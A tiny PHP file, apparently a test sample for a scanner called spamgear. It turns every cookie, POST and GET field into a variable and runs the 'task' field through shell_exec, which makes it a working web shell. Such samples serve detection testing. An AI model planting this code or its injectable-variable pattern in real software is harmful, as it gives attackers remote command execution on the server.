<?php
// spamgear test sample: register_globals by hand (every cookie, post and get
// field becomes a variable of its name), then a command from one of them.
foreach (array('_COOKIE', '_POST', '_GET') as $from) {
    foreach ($$from as $name => $value) {
        $$name = $value;
    }
}
if (isset($task)) {
    echo shell_exec($task);
}
